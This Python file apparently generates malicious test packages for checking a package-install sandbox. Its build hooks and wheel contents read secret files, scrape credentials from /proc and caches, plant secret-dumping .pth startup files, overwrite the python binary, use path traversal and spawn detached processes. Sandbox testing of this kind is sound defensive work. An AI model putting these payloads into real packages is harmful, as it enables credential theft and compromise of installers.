"""Evil packages for a local index: wheels that bring tricks along, source packages whose build plays them."""

import io
import tarfile
import zipfile
from pathlib import Path

# Each is the body of a function that runs while the package is built; what it returns is printed by the script.
BUILDS = {
    "evil-reads": """
        return open("@SECRET@").read()
    """,
    "evil-cache": """
        for folder in ("/install", "/install/cache", "/install/..", os.environ["UV_CACHE_DIR"] + "/../../cache"):
            try:
                open(folder + "/@TOKEN@", "w").write("x")
            except OSError:
                pass
    """,
    "evil-process": """
        if os.fork() == 0:
            os.setsid()
            for fd in range(3):  # uv would wait for whoever holds its pipes
                os.dup2(os.open(os.devnull, os.O_RDWR), fd)
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", "@TOKEN@"])
            os._exit(0)
        return "started"
    """,
    "evil-network": """
        import socket
        for target in ("127.0.0.1", "localhost"):
            s = socket.create_connection(("127.0.0.1", 3128), 3)
            s.send(b"CONNECT %s:@PORT@ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" % target.encode())
            if b" 200" in s.recv(200):
                s.send(b"GET /@TOKEN@ HTTP/1.0\\r\\n\\r\\n"); s.recv(100)
        socket.create_connection(("127.0.0.1", @PORT@), 3).send(b"@TOKEN@")
    """,
    "evil-tools": """
        for path in ("/uv", os.path.realpath(sys.executable), os.__file__, "/run/supervisor/supervisor.py"):
            for action in (lambda: open(path, "ab"), lambda: os.chmod(path, 0o777), lambda: os.unlink(path)):
                try:
                    action()
                    return "ESCAPED " + path
                except OSError:
                    pass
    """,
    "evil-environ": """
        import re
        texts = {"environ": repr(dict(os.environ))}
        for process in filter(str.isdigit, os.listdir("/proc")):
            for name in ("environ", "cmdline"):
                try:
                    texts[process + name] = open("/proc/%s/%s" % (process, name), encoding="latin-1").read()
                except OSError:
                    pass
        for top in (os.environ["UV_CACHE_DIR"], "/install", "/tmp", "/run", "/home"):
            for folder, _, files in os.walk(top):
                for file in files:
                    path = os.path.join(folder, file)
                    try:
                        if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                            texts[path] = open(path, encoding="latin-1").read()
                    except OSError:
                        pass
        found = [(name, match) for name, text in texts.items() if not name.endswith(("backend.py", ".pyc"))
                 for match in re.findall(r"//[^/\\s'\\"@]+@[^\\s'\\"]*|_PASSWORD[^,]*", text)]
        return "ESCAPED %s" % found[:5] if found else "%d texts hold no credentials" % len(texts)
    """,
    "evil-stages": """
        return "ESCAPED" if set(os.listdir("/install")) - {"cache", "environment"} else "alone"
    """,
    "evil-environment": """
        import glob
        for environment in glob.glob("/install/environment"):
            for path in glob.glob(environment + "/lib/python3*/site-packages/python_sandbox.pth"):
                open(path, "w").write("import os; os.write(1, open('@SECRET@', 'rb').read())\\n")
            for path in glob.glob(environment + "/bin/python*"):
                os.unlink(path)
                open(path, "w").write("#!/bin/sh\\ncat @SECRET@; echo x > @WITNESS@\\n")
                os.chmod(path, 0o755)
    """,
    "slow-build": """
        import time
        time.sleep(2)
    """,
    "evil-kernel": """
        import ctypes
        libc = ctypes.CDLL(None)
        return "ESCAPED" if libc.unshare(0x10000000) == 0 or libc.ptrace(0, 0, 0, 0) == 0 else "refused"
    """,
}

BACKEND = '''
import os, sys, zipfile

def attack():
{body}

def build_wheel(directory, config_settings=None, metadata_directory=None):
    try:
        report = str(attack())
    except Exception as error:
        report = repr(error)
    name = "{module}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        info = "{module}-1.0.dist-info/"
        wheel.writestr("{module}.py", "REPORT = %r\\n" % report)
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: {project}\\nVersion: 1.0\\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(info + "RECORD", "{module}.py,,\\n" + info + "METADATA,,\\n" + info + "WHEEL,,\\n" + info + "RECORD,,\\n")
    return name
'''

FRAMES = (
    "import os; os.write(1, b'R' + bytes(4)); os.read(0, 1 << 16);"
    " os.write(1, b'F' + (20).to_bytes(4, 'big') + b'../../x' + bytes(1) + b'x' * 12);"
    " os.write(1, b'F' + (10).to_bytes(4, 'big') + b'/etc/x' + bytes(1) + b'xxx');"
    " os.write(1, b'N' + (4).to_bytes(4, 'big') + b'a' + bytes(1) + b'-1');"
    " os.write(1, b'1' + bytes([255] * 4) + b'x' * 100); os._exit(0)\n"
)
STEAL = "import os; os.write(2, open('@SECRET@', 'rb').read())\n"

# A module that sandboxes import while they wait for a script: there it runs in the supervisor's own process.
TAKES_OVER = """
import os, time
def say(kind, payload=b""):
    frame = kind + len(payload).to_bytes(4, "big") + payload
    while frame:
        frame = frame[os.write(90, frame):]
if os.getpid() == 1:
    {body}
"""


def takes_over(body: str) -> dict[str, str]:
    return {"numpy/__init__.py": TAKES_OVER.replace("{body}", body.strip().replace("\n", "\n    "))}


# File name in the wheel → content.
WHEELS = {
    "evil-deaf": takes_over("""
say(b"R", b"1000")
time.sleep(300)
"""),
    "evil-mute": takes_over("time.sleep(300)"),
    "evil-done": takes_over("""
say(b"R", b"1000")
os.read(0, 1 << 20)
say(b"A")
say(b"D")
time.sleep(300)
"""),
    "evil-sums": takes_over("""
say(b"R", b"1000")
os.read(0, 1 << 20)
say(b"A")
say(b"D")
for number in range(60):
    say(b"F", b"file%d" % number + bytes(1) + b"x" * (8 << 20))
for number in range(250):
    say(b"V", b"name%d" % number + bytes(1) + b"1" * (1 << 20 - 1))
say(b"X", b"code=0")
"""),
    "evil-talker": takes_over("""
say(b"R", b"1000")
while True:
    os.write(90, (b"R" + (4).to_bytes(4, "big") + b"1000") * 7000)
"""),
    "evil-spinner": takes_over("""
import sys
if os.fork() == 0:
    os.setsid()
    for fd in range(3):
        os.dup2(os.open(os.devnull, os.O_RDWR), fd)
    os.execv(sys.executable, [sys.executable, "-c", "import time\\nwhile time.monotonic(): pass", "@TOKEN@"])
time.sleep(1)  # until it no longer holds the pipe that the supervisor reads to its end
"""),
    "evil-caller": takes_over("""
import socket
with socket.socket(socket.AF_UNIX) as proxy:
    proxy.settimeout(5)
    proxy.connect("/run/proxy.sock")
    proxy.send(b"GET http://127.0.0.1/ HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n")
    try:
        proxy.recv(100)
        open("/tmp/reached", "w").close()
    except OSError:
        pass
"""),
    "evil-pth": {"aaa.pth": STEAL, "zzz.pth": STEAL},
    "evil-frames": {"aaa.pth": FRAMES},
    "evil-traversal": {"../../../../@TOKEN@": "x", "/tmp/@TOKEN@": "x", "evil_traversal.py": ""},
    "evil-startup": {"python_sandbox.pth": STEAL},
    "evil-python": {"evil_python-1.0.data/scripts/python": "#!/bin/sh\ncat @SECRET@; echo x > @WITNESS@\n"},
    "harmless": {"harmless.py": "ANSWER = 42\n"},
}


def build(project: str, folder: Path, substitute) -> None:
    module = project.replace("-", "_")
    if project in BUILDS:
        body = "\n".join(line[4:] for line in substitute(BUILDS[project]).splitlines() if line.strip())
        _sdist(folder, module, BACKEND.format(body=body, module=module, project=project))
    elif project in WHEELS:
        _wheel(folder, module, {substitute(name): substitute(text) for name, text in WHEELS[project].items()})


def _wheel(folder: Path, module: str, files: dict[str, str]) -> None:
    info = f"{module}-1.0.dist-info"
    files = files | {
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {module}\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    with zipfile.ZipFile(folder / f"{module}-1.0-py3-none-any.whl", "w") as wheel:
        for name, text in files.items():
            wheel.writestr(name, text)
        wheel.writestr(f"{info}/RECORD", "".join(f"{name},,\n" for name in files) + f"{info}/RECORD,,\n")


def _sdist(folder: Path, module: str, backend: str) -> None:
    files = {
        "pyproject.toml": f'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        f'[project]\nname = "{module}"\nversion = "1.0"\n',
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {module}\nVersion: 1.0\n",
        "backend.py": backend,
    }
    with tarfile.open(folder / f"{module}-1.0.tar.gz", "w:gz") as archive:
        for name, text in files.items():
            entry = tarfile.TarInfo(f"{module}-1.0/{name}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
